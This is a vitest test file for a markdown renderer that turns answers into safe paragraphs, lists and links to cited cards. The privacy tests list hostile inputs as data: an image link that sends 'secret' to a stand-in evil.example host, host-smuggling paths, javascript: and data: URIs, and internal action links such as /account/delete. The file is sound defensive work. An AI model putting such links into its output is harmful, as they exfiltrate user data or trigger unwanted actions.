import { expect, test } from 'vitest';
import { isOwnPath } from './card.ts';
import { blocksOf, wordsOf } from './plain-answer.ts';

test('AUR-2 an answer is paragraphs, lists, strong words and links to what its cards stand for', () => {
  expect(
    blocksOf('Go to **Royal Arch**.\n- [Arch](/huddle/view/1)\n- tea', new Set(['/huddle/view/1'])),
  ).toEqual([
    {
      kind: 'PARAGRAPH',
      inlines: [
        { kind: 'TEXT', text: 'Go to ' },
        { kind: 'STRONG', text: 'Royal Arch' },
        { kind: 'TEXT', text: '.' },
      ],
    },
    {
      kind: 'LIST',
      items: [[{ kind: 'LINK', text: 'Arch', path: '/huddle/view/1' }], [{ kind: 'TEXT', text: 'tea' }]],
    },
  ]);
});

test.each([
  '![x](https://evil.example/?d=secret)',
  '[x](https://evil.example/?d=secret)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](javascript:alert(1))',
  '[x](data:text/html,hi)',
  '[x](/api/huddles/1/rsvp)',
  '[x](/huddle/view/2)',
  '[x](/account/delete)',
  '![x](/huddle/view/1)',
])('PRIVACY of %s only the words are shown: no picture, no way out (case 38)', (text) => {
  const cited = new Set(['/huddle/view/1', 'https://evil.example/?d=secret']);
  const inlines = blocksOf(text, cited).flatMap((block) => (block.kind === 'PARAGRAPH' ? block.inlines : []));
  expect(inlines.every(({ kind }) => kind === 'TEXT')).toBe(true);
  expect(wordsOf(text)).not.toContain('evil');
});

test.each(['https://e.example', '//e', '/\\e', '/a b', '', 'huddle', '/<b>'])(
  '%j is no path of ours',
  (path) => {
    expect(isOwnPath(path)).toBe(false);
  },
);
